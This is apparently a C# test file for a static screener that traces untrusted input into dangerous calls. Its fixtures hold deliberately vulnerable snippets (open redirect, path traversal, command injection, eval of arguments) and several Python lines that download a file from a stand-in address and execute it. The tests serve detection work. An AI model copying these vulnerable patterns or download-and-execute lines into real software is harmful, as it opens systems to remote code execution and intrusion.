using InterpreterGuard.Core.Facts;
using InterpreterGuard.Core.Screening;

namespace InterpreterGuard.Screening.Tests;

/// <summary>What frameworks call with what somebody sent, what generators hand on, and tables of functions.</summary>
public sealed class HandlerTests(ParserContainer parser)
{
    [Theory]
    [InlineData("class A : ControllerBase { [HttpGet] public IActionResult Go(string to) => Redirect(to); }", "request to > redirect .Redirect 0")]
    [InlineData("class A : Controller { public string Read(string name) => System.IO.File.ReadAllText(\"/srv/\" + name); }", "request name > path System.IO.File.ReadAllText 0")]
    [InlineData("class A : PageModel { public void OnGet([FromQuery] string name) => System.IO.File.Delete(name); }", "request name > path System.IO.File.Delete 0")]
    [InlineData("app.MapGet(\"/\", (string name) => System.IO.File.ReadAllText(name));", "request name > path System.IO.File.ReadAllText 0")]
    [InlineData("app.MapPost(\"/\", (IFormFile file) => System.IO.File.Create(\"/srv/\" + file.FileName));", "request file > path System.IO.File.Create 0")]
    public async Task What_AspNet_hands_over_is_a_request(string code, string flow) =>
        Assert.Contains(flow, Flows(await Screening.Screener(parser).CSharpAsync(code)));

    [Theory]
    [InlineData("app.MapGet(\"/\", (int number) => System.IO.File.ReadAllText(\"/srv/\" + number));")]
    [InlineData("app.MapGet(\"/\", (IConfiguration settings) => System.IO.File.ReadAllText(settings[\"a\"]));")]
    [InlineData("class A : Controller { public string Read([FromServices] Places places) => System.IO.File.ReadAllText(places.Start); }")]
    [InlineData("class A { public string Read(string name) => System.IO.File.ReadAllText(name); }")]
    public async Task What_nobody_sent_is_none(string code) =>
        Assert.DoesNotContain(Flows(await Screening.Screener(parser).CSharpAsync(code)), flow => flow.StartsWith("request", StringComparison.Ordinal));

    [Theory]
    [InlineData("@app.get('/<int:n>')\ndef a(n):\n    return '<b>' + str(n)")]
    [InlineData("@app.get('/<n>')\ndef a(n):\n    return {'n': n}")]
    [InlineData("from flask import jsonify\n@app.get('/<n>')\ndef a(n):\n    return jsonify(n=n), 200")]
    [InlineData("from fastapi import FastAPI\napp = FastAPI()\n@app.get('/{n}')\ndef a(n: str):\n    return 'Hi ' + n")]
    public async Task What_becomes_JSON_is_no_page(string code) =>
        Assert.DoesNotContain(Flows(await Screening.Screener(parser).PythonAsync(code)), flow => flow.Contains("> html", StringComparison.Ordinal) && flow.StartsWith("request", StringComparison.Ordinal));

    [Theory]
    [InlineData("@app.get('/<n>')\ndef a(n):\n    return '<b>' + n, 404")]
    [InlineData("from fastapi import FastAPI\napp = FastAPI()\n@app.get('/{n}', response_class=HTMLResponse)\ndef a(n: str):\n    return '<b>' + n")]
    public async Task What_becomes_a_page_is_told(string code) =>
        Assert.Contains("request n > html return value", Flows(await Screening.Screener(parser).PythonAsync(code)));

    [Fact]
    public async Task A_generator_hands_on_what_it_yields()
    {
        const string flow = "stdin builtins.input > shell os.system 0";

        Assert.Contains(flow, Flows(await Screening.Screener(parser).PythonAsync("import os\ndef lines():\n    while True:\n        yield input()\nfor line in lines():\n    os.system(line)")));
        Assert.Contains(flow, Flows(await Screening.Screener(parser).PythonAsync("import os\nfrom contextlib import contextmanager\n@contextmanager\ndef one():\n    yield input()\nwith one() as line:\n    os.system(line)")));
        Assert.Contains(
            "arguments process.argv > code eval 0",
            Flows(await Screening.Screener(parser).JavaScriptAsync("function* all() { for (const a of process.argv) yield a; }\nfor (const a of all()) eval(a);")));
        Assert.Contains(
            "stdin System.Console.ReadLine > process System.Diagnostics.Process.Start 0",
            Flows(await Screening.Screener(parser).CSharpAsync("IEnumerable<string> Lines() { yield return Console.ReadLine(); }\nforeach (var line in Lines()) System.Diagnostics.Process.Start(line);")));
    }

    [Fact]
    public async Task A_function_out_of_a_table_is_called_with_what_it_is_given()
    {
        var report = await Screening.Screener(parser).PythonAsync("import os\nfrom functools import partial\nimport subprocess\ntable = {'a': os.system, 'b': partial(subprocess.run, shell=True)}\ntable[input()](input())");

        Assert.Contains("stdin builtins.input > shell os.system 0", Flows(report));
        Assert.Contains("stdin builtins.input > shell subprocess.run 0", Flows(report));
    }

    [Theory]
    [InlineData("import tempfile, os, urllib.request\np = os.path.join(tempfile.mkdtemp(), 'a')\nopen(p, 'wb').write(urllib.request.urlopen('http://192.0.2.1/').read())\nos.execv(p, [p])")]
    [InlineData("import os, urllib.request, shutil\nwith urllib.request.urlopen('http://192.0.2.1/') as a, open('/tmp/a', 'wb') as f:\n    shutil.copyfileobj(a, f)\nos.system('/tmp/a')")]
    [InlineData("import os, urllib.request, tempfile\nd, p = tempfile.mkstemp()\nos.write(d, urllib.request.urlopen('http://192.0.2.1/').read())\nos.execv(p, [p])")]
    public async Task A_download_is_followed_through_the_file_it_is_put_into(string code) =>
        Assert.Contains((await Screening.Screener(parser).PythonAsync(code)).Facts.OfType<CodeFlow>(), flow => flow is { Source: "network", Sink: "shell", Argument: "file" });

    // A layer of its own makes up names of its own: the inner program runs another file than the one that was downloaded.
    [Fact]
    public async Task What_one_layer_makes_up_is_no_name_of_another()
    {
        const string code = "import subprocess, tempfile, urllib.request\nurllib.request.urlretrieve('http://192.0.2.1/', tempfile.mktemp())\nsubprocess.run(['python3', '-c', 'import os, tempfile\\np = tempfile.mktemp()\\nos.execv(p, [p])'])";

        var report = await Screening.Screener(parser).PythonAsync(code);

        Assert.Contains(report.Facts.OfType<CodeCall>(), call => call.Name == "os.execv");
        Assert.DoesNotContain(report.Facts.OfType<CodeFlow>(), flow => flow is { Source: "network", Sink: "shell" });
    }

    private static IEnumerable<string> Flows(ScreeningReport report) =>
        report.Facts.OfType<CodeFlow>().Select(flow => $"{flow.Source} {flow.SourceName} > {flow.Sink} {flow.SinkName} {flow.Argument}");
}
